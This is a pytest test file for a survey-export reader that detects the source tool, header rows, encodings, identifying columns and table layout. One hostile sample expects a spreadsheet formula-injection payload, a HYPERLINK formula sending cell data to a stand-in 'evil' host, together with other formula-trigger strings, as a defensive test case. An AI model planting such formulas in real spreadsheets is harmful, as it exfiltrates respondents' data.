"""What survey files look like before they are read, tool by tool, and what people choose of them."""

from __future__ import annotations

import csv
import uuid
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qualcode.errors import InputError, NoTextColumn, UnknownFormat, UnreadableFile
from qualcode.formats.survey import describe_survey, read_survey
from qualcode.model import ReadResult, SurveyChoices, SurveyShape

QUALTRICS = ["StartDate", "EndDate", "ResponseId", "Q1"]
LONG = "We met every other week and swapped the plans that had not worked, number"


def write(path: Path, *rows: list[str]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)
    return path


def read(path: Path, choices: SurveyChoices | None = None) -> ReadResult:
    return read_survey(path, new_id=lambda: str(uuid.uuid4()), choices=choices or SurveyChoices())


def uses(shape: SurveyShape) -> dict[str, str]:
    return {column.name: column.use for column in shape.columns if column.use != "left out"}


# File; tool, header rows, delimiter, encoding; what is not left out; the column read; what is read.
SAMPLES = [
    (
        "hostile/v01_formula.csv", ("", 1, ",", "utf-8"), {"id": "id"}, "response",
        ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "=1+1", "=1+1", "＝1+1",
         "- I liked it"],
    ),
    (
        "hostile/v02_ragged_quotes.csv", ("", 1, ",", "utf-8"), {"id": "id"}, "response",
        ["unterminated", "a", 'ok "quoted" text\nwith newline'],
    ),
    (
        "hostile/v03_semicolon_cp1252.csv", ("", 1, ";", "cp1252"),
        {"id": "id", "réponse": "attribute"}, "réponse", ["c’est très bien", "oui; non"],
    ),
    (
        "hostile/v04_surveymonkey_2header.csv", ("SurveyMonkey", 2, ",", "utf-8-sig"),
        {"Respondent ID": "id", "IP Address": "identifying", "What did you like?": "open"}, None,
        ["I liked it, mostly"],
    ),
    (
        "hostile/v05_google_forms.csv", ("Google Forms", 1, ",", "utf-8"),
        {"Email Address": "identifying"}, "How do you feel about X?", ["Fine, thanks\nsecond line"],
    ),
    (
        "hostile/v06_limesurvey.csv", ("LimeSurvey", 1, ",", "utf-8-sig"), {"id. Response ID": "id"},
        "Q1", ['Text; with "quotes"'],
    ),
    (
        "hostile/v07_msforms_like.csv", ("Microsoft Forms", 1, ",", "utf-8"),
        {"ID": "id", "Email": "identifying"}, "What went well?", ["All good"],
    ),
    (
        "survey/qualtrics_3header_german.csv", ("Qualtrics", 3, ",", "utf-8"),
        {"ResponseId": "id", "IPAddress": "identifying", "LocationLatitude": "identifying",
         "LocationLongitude": "identifying", "Q2": "open"}, None, ["Hello World!"],
    ),
    (
        "survey/qualtrics_legacy_2header_bom.csv", ("Qualtrics", 2, ",", "utf-8-sig"),
        {"ResponseID": "id", "Name": "identifying", "IPAddress": "identifying",
         "LocationLatitude": "identifying", "LocationLongitude": "identifying"},
        "This is a free text question.", ["Hello World!"],
    ),
    (
        "encodings/semicolon-delimited.csv", ("", 1, ";", "utf-8"), {}, "dolor sit",
        ["adipiscing", "eiusmod", "et, dolore", "ad minim"],
    ),
    (
        "encodings/stanley-cups-utf-16.csv", ("", 1, ",", "utf-16"), {}, "Stanley Cups",
        ["Team", "Blues", "Flyers", "Maple Leafs"],
    ),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "about", "used", "column", "answers"), SAMPLES, ids=[case[0] for case in SAMPLES]
)
def test_samples_of_every_tool_are_seen_for_what_they_are_and_read(
    shared: Path, name: str, about: tuple[object, ...], used: dict[str, str], column: str | None,
    answers: list[str],
) -> None:  # fmt: skip
    file = shared / "interop" / "samples" / name
    choices = SurveyChoices(columns=(column,) if column else ())

    shape = describe_survey(file)
    result = read(file, choices)

    assert (shape.tool, shape.header_rows, shape.delimiter, shape.encoding) == about
    assert uses(shape) == used
    assert [document.text.strip() for document in result.documents] == answers


def test_rows_that_are_uneven_or_astray_are_told_by_number(shared: Path) -> None:
    file = shared / "interop" / "samples" / "hostile" / "v02_ragged_quotes.csv"

    warnings = [(e.place, e.reason) for e in read(file, SurveyChoices(columns=("response",))).ledger
                if e.outcome == "warning"]  # fmt: skip

    name = "v02_ragged_quotes.csv"
    assert warnings == [
        (name, "line 2 is read alone, as a quotation mark is not closed or astray"),
        (name, "row 4 is shorter than the header; what is missing counts as empty"),
        (f"{name}, row 3", "more cells than the header has; left out: b | c"),
    ]


def test_spreadsheets_of_others_are_read_or_refused_clearly(shared: Path) -> None:
    folder = shared / "interop" / "samples" / "survey"

    with pytest.raises(UnreadableFile, match="protected by a password") as refusal:
        read(folder / "unstructured_password_protected.xlsx")
    old = describe_survey(folder / "unstructured_tests-example.xls")

    assert "without a password" in refusal.value.hint
    assert (old.encoding, old.n_rows) == ("xls", 6)


@pytest.mark.parametrize(
    ("header", "row", "tool"),
    [
        (["record_id", "helped", "survey_complete"], ["1", "x", "2"], "REDCap"),
        (["_uuid", "group/helped", "_submission_time"], ["u1", "x", "2026-01-05"], "KoBoToolbox"),
        (["StartDate", "EndDate", "RecordedDate", "Q1"], ["2026-01-05"] * 4, "Qualtrics"),
        (["Zeitstempel", "Was hat geholfen?"], ["05.01.2026", "x"], "Google Forms"),
        (["Status", "Progress"], ["employed", "slow"], ""),
    ],
)
def test_tools_are_known_by_their_columns(
    tmp_path: Path, header: list[str], row: list[str], tool: str
) -> None:
    shape = describe_survey(write(tmp_path / "s.csv", header, row))

    assert (shape.tool, shape.header_rows) == (tool, 1)


def test_columns_of_one_title_are_told_apart_and_those_without_one_numbered(tmp_path: Path) -> None:
    file = write(tmp_path / "s.csv", ["Why?", "Why?", "", "Why? (2)"], ["a", "b", "c", "d"])

    result = read(file, SurveyChoices(columns=("Why?", "Why? (3)", "column 3")))

    assert [column.name for column in describe_survey(file).columns] == [
        "Why?", "Why? (3)", "column 3", "Why? (2)",
    ]  # fmt: skip
    assert result.documents[0].text == "a\n\nb\n\nc\n\n"


def test_a_question_about_telephones_identifies_nobody(tmp_path: Path) -> None:
    question = "Which email programme do you use, and why?"
    rows = [[f"{LONG} {n}", f"0{n}", f"10.0.0.{n}"] for n in range(4)]
    file = write(tmp_path / "s.csv", [question, "Phone number", "Q9"], *rows)

    assert uses(describe_survey(file)) == {
        question: "open", "Phone number": "identifying", "Q9": "identifying",
    }  # fmt: skip


def test_a_column_is_shown_by_an_example_unless_it_identifies_people(tmp_path: Path) -> None:
    rows = [["", "Kim"], [f"Two  lines\nand {'x' * 80}", "Lee"]]
    answer, name = describe_survey(write(tmp_path / "s.csv", ["answer", "Name"], *rows)).columns

    assert (answer.n_filled, answer.example) == (1, f"Two lines and {'x' * 65}…")
    assert (name.n_filled, name.example) == (2, "")


@pytest.mark.parametrize(
    ("rows", "n_rows", "question"),
    [
        ([QUALTRICS, ["Start Date", "End Date", "Response ID", "Why?"],
          ["2026-01-05", "2026-01-05", "R_1", LONG]], 2, "Why?"),
        ([QUALTRICS, ["2026-01-05", "2026-01-05", "R_1", LONG],
          ["2026-01-06", "2026-01-06", "R_2", f"{LONG} 2"]], 1, "Q1"),
        ([QUALTRICS,
          ['{"ImportId":"startDate"}', '{"ImportId":"endDate"}', '{"ImportId":"_recordId"}',
           '{"ImportId":"QID1_TEXT"}'], ["2026-01-05", "2026-01-05", "R_1", LONG]], 2, "Q1"),
    ],
    ids=["no import ids", "names only", "no questions"],
)  # fmt: skip
def test_header_rows_of_qualtrics_that_people_deleted_are_not_missed(
    tmp_path: Path, rows: list[list[str]], n_rows: int, question: str
) -> None:
    result = read(write(tmp_path / "s.csv", *rows), SurveyChoices(columns=("Q1",)))

    assert describe_survey(tmp_path / "s.csv").header_rows == n_rows
    assert {segment.question for segment in result.segments} == {question}
    assert [document.name for document in result.documents][:1] == ["s/R_1"]


def test_identifying_columns_are_kept_only_when_asked_for(tmp_path: Path) -> None:
    file = write(tmp_path / "s.csv", ["id", "Name", "answer"], ["1", "A", LONG], ["2", "B", LONG + "s"])

    result = read(file, SurveyChoices(columns=("answer",), keep_identifying=True))

    assert [case.attributes for case in result.cases] == [{"Name": "A"}, {"Name": "B"}]
    assert not any("identifying" in entry.reason for entry in result.ledger)


def test_what_is_chosen_wins_over_what_is_proposed(tmp_path: Path) -> None:
    rows = [[f"K{n}", str(n), LONG + str(n), f"{n} {LONG}", str(n % 2)] for n in range(8)]
    file = write(tmp_path / "s.csv", ["key", "id", "long", "longer", "side"], *rows)
    choices = SurveyChoices(columns=("longer",), attributes=("id",), row_id="key")

    shape = describe_survey(file, choices=choices)

    assert uses(shape) == {"key": "id", "id": "attribute", "longer": "open"}
    assert [column.reason for column in shape.columns if column.use == "left out"] == [
        "another column was chosen", "another column was chosen",
    ]  # fmt: skip


def test_columns_without_use_are_in_the_ledger_with_the_reason(tmp_path: Path) -> None:
    rows = [[str(n), "x", "", f"{LONG} {n}"] for n in range(4)]
    file = write(tmp_path / "s.csv", ["id", "same", "blank", "answer"], *rows)

    skipped = [(e.place, e.reason) for e in read(file).ledger if e.outcome == "skipped"]

    assert skipped == [("s.csv, same", "column left out: one value throughout")]


def test_blank_rows_are_counted_and_do_not_move_the_others(tmp_path: Path) -> None:
    file = tmp_path / "s.csv"
    file.write_text(",\n\nanswer,more\nA,x\n,\n\nB,y\n")

    result = read(file, SurveyChoices(columns=("answer",)))

    assert [case.id for case in result.cases] == ["s-row-4", "s-row-7"]
    assert [(e.count, e.reason) for e in result.ledger if "row" in e.reason] == [
        (2, "row without anything in it")
    ]
    assert result.n_cells == 2


def test_the_number_of_header_rows_can_be_given(tmp_path: Path) -> None:
    file = write(tmp_path / "s.csv", ["q1", "q2"], ["Your role?", "What helped?"], ["head", "Time."])

    told = read(file, SurveyChoices(columns=("What helped?",), header_rows=2))

    assert [(d.text, s.question) for d, s in zip(told.documents, told.segments, strict=True)] == [
        ("Time.\n\n", "What helped?")
    ]
    with pytest.raises(UnreadableFile, match="no rows below the header"):
        read(file, SurveyChoices(header_rows=3))


def test_a_column_that_is_not_there_is_named_with_those_that_are(tmp_path: Path) -> None:
    file = write(tmp_path / "s.csv", ["id", "answer"], ["1", LONG])

    with pytest.raises(InputError, match="no column 'reply'") as refusal:
        describe_survey(file, choices=SurveyChoices(attributes=("reply",)))

    assert refusal.value.hint == "columns are id, answer"


def test_files_with_the_same_columns_have_one_signature(tmp_path: Path) -> None:
    one = describe_survey(write(tmp_path / "one.csv", ["id", "answer"], ["1", LONG]))
    two = describe_survey(write(tmp_path / "two.csv", ["id", " answer"], ["9", "Other."]))
    other = describe_survey(write(tmp_path / "three.csv", ["id", "answers"], ["1", LONG]))

    assert one.signature == two.signature != other.signature


def test_a_table_of_one_answer_a_row_is_seen_to_be_long(tmp_path: Path) -> None:
    file = write(
        tmp_path / "s.csv", ["respondent", "role", "mood", "question", "answer"],
        ["R1", "head", "good", "What helped?", "Time."], ["R2", "teacher", "good", "What helped?", ""],
        ["R1", "", "bad", "What was hard?", "The bus."],
        ["R2", "teacher", "bad", "What was hard?", "It"],
        ["", "head", "good", "What helped?", "Nothing."],
    )  # fmt: skip

    shape, result = describe_survey(file), read(file)

    assert shape.layout == "long"
    assert uses(shape) == {
        "respondent": "id", "role": "attribute", "question": "question", "answer": "open",
    }  # fmt: skip
    assert {d.name: d.text for d in result.documents} == {
        "s/R1": "Time.\n\nThe bus.\n\n", "s/R2": "It\n\n", "s/s-row-6": "Nothing.\n\n",
    }  # fmt: skip
    assert [s.question for s in result.segments] == [
        "What helped?", "What was hard?", "What was hard?", "What helped?",
    ]  # fmt: skip
    assert [c.attributes for c in result.cases] == [
        {"role": "head"},
        {"role": "teacher"},
        {"role": "head"},
    ]
    skipped = [(e.place, e.reason) for e in result.ledger if e.outcome == "skipped"]
    assert skipped == [
        ("s.csv, mood", "column left out: it differs within a respondent"),
        ("s/R2, What helped?", "empty answer"),
    ]


def test_a_long_table_needs_its_three_columns(tmp_path: Path) -> None:
    file = write(tmp_path / "s.csv", ["who", "what", "said"], ["1", "Why?", "So."])
    choices = SurveyChoices(layout="long", row_id="who", question="what", answer="said")

    assert [d.name for d in read(file, choices).documents] == ["s/1"]
    with pytest.raises(InputError, match="respondent, question and answer") as refusal:
        read(file, SurveyChoices(layout="long"))

    assert "--long" in refusal.value.hint
    with pytest.raises(NoTextColumn):
        read(file, SurveyChoices(layout="wide"))


ANSWER = st.text(st.sampled_from("ab é\n,;'"), max_size=8).map(str.strip)


@given(st.lists(st.tuples(ANSWER, ANSWER), min_size=1, max_size=6))
def test_wide_and_long_tables_of_the_same_answers_are_the_same(
    tmp_path_factory: pytest.TempPathFactory, given_: list[tuple[str, str]]
) -> None:
    folder = tmp_path_factory.mktemp("layouts")
    questions = ["What helped?", "What was hard?"]
    wide = [[f"R{n}", *answers] for n, answers in enumerate(given_)]
    long = [[row[0], q, a] for row in wide for q, a in zip(questions, row[1:], strict=True)]
    (folder / "long").mkdir()

    one = read(
        write(folder / "s.csv", ["id", *questions], *wide), SurveyChoices(columns=tuple(questions))
    )
    named = SurveyChoices(layout="long", row_id="id", question="question", answer="answer")
    other = read(write(folder / "long" / "s.csv", ["id", "question", "answer"], *long), named)

    def told(result: ReadResult) -> list[object]:
        return [
            [(d.name, d.text) for d in result.documents], [c.id for c in result.cases],
            [(s.span, s.question) for s in result.segments], result.n_cells,
            [(e.place, e.count) for e in result.ledger if e.reason == "empty answer"],
        ]  # fmt: skip

    assert told(one) == told(other)


@pytest.mark.parametrize(("name", "error"), [("none.csv", UnreadableFile), ("s.txt", UnknownFormat)])
def test_what_cannot_be_a_survey_is_refused(tmp_path: Path, name: str, error: type[Exception]) -> None:
    (tmp_path / "s.txt").write_text("id,answer\n1,Yes.\n")

    with pytest.raises(error):
        describe_survey(tmp_path / name)
